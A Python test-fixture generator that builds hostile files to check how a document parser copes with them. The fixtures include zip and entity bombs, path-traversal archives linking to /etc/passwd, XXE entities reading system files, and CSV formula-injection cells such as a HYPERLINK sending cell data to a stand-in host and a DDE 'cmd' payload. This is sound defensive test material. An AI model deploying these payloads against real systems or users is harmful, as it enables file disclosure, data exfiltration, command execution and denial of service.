"""Makes the files that attack their reader: bombs, traversal, loops, lies, and what hangs or kills a parser.

Nothing here does harm by itself: macros are inert bytes, links point at names, bombs are zeros.
"""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image

from proofroom.model.states import State
from proofroom.world import archives, compound, delimited, docx, prose, texts, xlsx, zips
from proofroom.world.books import File
from proofroom.world.parts import MARKER, Fact, Made, part
from proofroom.world.sheets import Book, Sheet, facts

_BOMB_MEBIBYTES = 1024
_DEPTH = 40
_ANY_END = (State.PARTLY, State.DAMAGED, State.REFUSED, State.TRUNCATED, State.TIMED_OUT, State.CRASHED)


def files(*, blind: bool) -> list[File]:
    """Give every hostile file with the states in which it may rightly end."""
    made: dict[str, Made] = {
        "炸弹.zip": archives.bomb(_BOMB_MEBIBYTES),
        "四十层.zip": archives.nested(_DEPTH, texts.note("最里层", blind=blind)),
        "越界路径.zip": traversal_zip(blind=blind),
        "越界路径.tar": traversal_tar(blind=blind),
        "实体.xml": external_entity(),
        "十亿次.xml": entity_bomb(),
        "实体.docx": entity_document(blind=blind),
        "带宏.xlsm": macro_workbook(blind=blind),
        "公式注入.csv": formula_injection(),
        "首尾两格.xlsx": sparse_workbook(blind=blind),
        "循环页.pdf": looping_pdf(),
        "深括号.rtf": deep_rtf(),
        "深括号.json": Made(b"[" * 100_000 + b"]" * 100_000, "json", also=_ANY_END, note="recursion"),
        "巨像素.png": huge_picture(blind=blind),
        "坏目录.jpg": looping_exif(),
    }
    return [
        File(f"杂项/{name}", content, "hostile") for name, content in (made | broken(blind=blind)).items()
    ]


def broken(*, blind: bool) -> dict[str, Made]:
    """Give what arrived cut short, empty, or under a wrong name."""
    book = xlsx.write(_small_book(), blind=blind).data or b""
    written = docx.write(prose.notice(), blind=blind)
    picture = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xdb\0\x43\0" + b"\x10" * 40
    short = (State.PARTLY, State.UNKNOWN, State.TRUNCATED)
    return {
        "断.xlsx": Made(book[: len(book) // 2], "xlsx", state=State.DAMAGED, also=short),
        "断.zip": Made(
            zips.pack([("a.txt", b"a" * 900), ("b.txt", b"b" * 900)])[:-60],
            "zip",
            state=State.DAMAGED,
            also=(*short, State.READ),
        ),
        "断.pdf": Made(
            b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Ty",
            "pdf",
            state=State.DAMAGED,
            also=short,
        ),
        "断.jpg": Made(picture, "photo", state=State.DAMAGED, also=short),
        "空.docx": Made(b"", "empty", state=State.EMPTY, reason="no-content"),
        "空格.txt": Made(b" \r\n\r\n", "txt", state=State.EMPTY, also=(State.READ,), reason="no-text"),
        "通知.txt": Made(written.data, "docx", written.facts, note="a .docx named .txt"),
        "名单.xls": Made(
            _PAGE, "html", [Fact("line", part(("para", "1")), "甲乙丙")], note="a web page named .xls"
        ),
        "照片.pdf": Made(
            bytes(range(256)) * 8, "unknown", state=State.UNKNOWN, also=(State.DAMAGED,), note="noise"
        ),
        "坏校验.zip": Made(
            _bad_checksum(),
            "zip",
            state=State.DAMAGED,
            also=(State.PARTLY, State.READ),
            reason="bad-checksum",
        ),
    }


_PAGE = "<html><head><meta charset='utf-8'></head><body><p>甲乙丙</p></body></html>".encode()


def _small_book() -> Book:
    sheet = Sheet("表")
    for row in range(1, 40):
        sheet.put(row, 1, f"第{row}行")
        sheet.put(row, 2, row * row)
    return Book([sheet])


def traversal_zip(*, blind: bool) -> Made:
    """Give members that would leave the folder they are unpacked into."""
    inner = texts.note("出去", blind=blind)
    names = ("../../出去.txt", "/etc/绝对.txt", "..\\..\\反斜杠.txt", "正常.txt")
    return Made(
        zips.pack([(name, inner.data or b"") for name in names]),
        "zip",
        members=[(name, _unsafe(inner) if name != "正常.txt" else inner) for name in names],
        also=(State.PARTLY,),
    )


def traversal_tar(*, blind: bool) -> Made:
    """Give the same in a tar, with a link that leads outside."""
    inner = texts.note("出去", blind=blind)
    packed = archives.tarred([("../出去.txt", inner), ("正常.txt", inner)], links=(("链接", "/etc/passwd"),))
    packed.members = [
        (name, _unsafe(made) if name.startswith("..") else made) for name, made in packed.members
    ]
    packed.also = (State.PARTLY,)
    return packed


def _unsafe(made: Made) -> Made:
    """Allow a member with an unsafe name to be refused, or read under its name; it is never written there."""
    return Made(made.data, made.kind, made.facts, also=(State.REFUSED,), extra={"optional": True})


def external_entity() -> Made:
    """Give XML that asks the parser to read a file of the machine."""
    text = '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<r>前&x;后</r>\n'
    return Made(text.encode(), "xml", also=(State.REFUSED, State.DAMAGED, State.PARTLY), note="XXE")


def entity_bomb() -> Made:
    """Give XML whose entities multiply to a thousand million words."""
    names = [f'<!ENTITY e{number} "{f"&e{number - 1};" * 10}">' for number in range(1, 10)]
    text = '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY e0 "ha">' + "".join(names) + "]>\n<r>&e9;</r>\n"
    return Made(
        text.encode(),
        "xml",
        state=State.REFUSED,
        also=(State.DAMAGED, State.PARTLY, State.TRUNCATED, State.READ),
        note="entities",
    )


def entity_document(*, blind: bool) -> Made:
    """Give a .docx whose main part declares an external entity."""
    whole = docx.write(prose.notice(), blind=blind)
    inside = zips.entries(whole.data or b"")
    body = inside["word/document.xml"].decode()
    head, rest = body.split("\n", 1)
    declared = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    inside["word/document.xml"] = f"{head}\n{declared}{rest.replace('各单位', '&x;各单位', 1)}".encode()
    return Made(
        zips.pack(list(inside.items())), "docx", also=(State.REFUSED, State.DAMAGED, State.PARTLY), note="XXE"
    )


def macro_workbook(*, blind: bool) -> Made:
    """Give a workbook with a macro part of inert bytes."""
    book = _small_book()
    inside = zips.entries(xlsx.write(book, blind=blind).data or b"")
    plain = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    inside["[Content_Types].xml"] = inside["[Content_Types].xml"].replace(
        plain, b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    )
    inert = b'Attribute VB_Name = "Inert"\r\nSub Auto_Open()\r\n\' SYNTHETIC, does nothing\r\nEnd Sub\r\n'
    inside["xl/vbaProject.bin"] = compound.write([("PROJECT", inert), ("dir", b"\1" + inert)])
    return Made(zips.pack(list(inside.items())), "xlsm", facts(book), also=(State.PARTLY,), note="macro")


def formula_injection() -> Made:
    """Give cells that become commands when somebody exports and opens them."""
    rows = [
        ["姓名", "备注"],
        ["甲", '=HYPERLINK("http://veshkara.example/?"&A1,"点击")'],
        ["乙", "+cmd|' /C calc'!A0"],
    ]
    rows += [["丙", "@SUM(1+1)*cmd"], ["丁", "-2+3"], ["戊", "\t=1+1"]]
    made = delimited.write(rows, encoding="utf-8")
    made.note = "formula injection"
    return made


def sparse_workbook(*, blind: bool) -> Made:
    """Give two cells, the first and the last a sheet can have: kills whoever makes the grid between them."""
    sheet = Sheet("稀疏")
    sheet.put(1, 1, "首")
    sheet.put(1_048_576, 16_384, "尾")
    return xlsx.write(Book([sheet]), blind=blind)


def looping_pdf() -> Made:
    """Give a page tree that contains itself, and a cross-reference chain that never ends."""
    body = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    pages = len(body)
    body += b"2 0 obj\n<< /Type /Pages /Count 1000000 /Kids [2 0 R 2 0 R] >>\nendobj\n"
    table = len(body)
    body += b"xref\n0 3\n0000000000 65535 f \n%010d 00000 n \n%010d 00000 n \n" % (9, pages)
    body += b"trailer\n<< /Size 3 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (table, table)
    return Made(
        body,
        "pdf",
        state=State.DAMAGED,
        also=(*_ANY_END, State.EMPTY, State.READ),
        note="hangs a naive parser",
    )


def deep_rtf() -> Made:
    """Give groups nested 65,000 deep."""
    deep = 65_000
    return Made(b"{\\rtf1 " + b"{" * deep + b"x" + b"}" * deep + b"}", "rtf", also=_ANY_END, note="recursion")


def huge_picture(*, blind: bool) -> Made:
    """Give a PNG of a few hundred bytes that says it has 60,000 by 60,000 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    body = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"tEXt", b"Comment\0" + (b"" if blind else MARKER.encode()))
    )
    data = body + chunk(b"IDAT", zlib.compress(bytes(64))) + chunk(b"IEND", b"")
    return Made(
        data, "image", state=State.TRUNCATED, also=_ANY_END, reason="limit-pixels", note="decompression bomb"
    )


def looping_exif() -> Made:
    """Give a JPEG whose EXIF directory names itself as the next one."""
    tiff = (
        b"MM\0*\0\0\0\x08"
        + struct.pack(">H", 1)
        + struct.pack(">HHI4s", 0x010F, 2, 4, b"FIC\0")
        + struct.pack(">I", 8)
    )
    app = b"Exif\0\0" + tiff
    data = b"\xff\xd8\xff\xe1" + struct.pack(">H", len(app) + 2) + app + _tiny_jpeg()[2:]
    return Made(data, "photo", also=(State.PARTLY, State.DAMAGED), note="EXIF loop")


def _tiny_jpeg() -> bytes:

    stream = io.BytesIO()
    Image.new("L", (8, 8), 128).save(stream, "JPEG")
    return stream.getvalue()


def _bad_checksum() -> bytes:
    data = zips.pack([("a.txt", b"the bytes will not match" * 4)], method=0)
    return data.replace(b"will not match", b"will NOT match", 1)
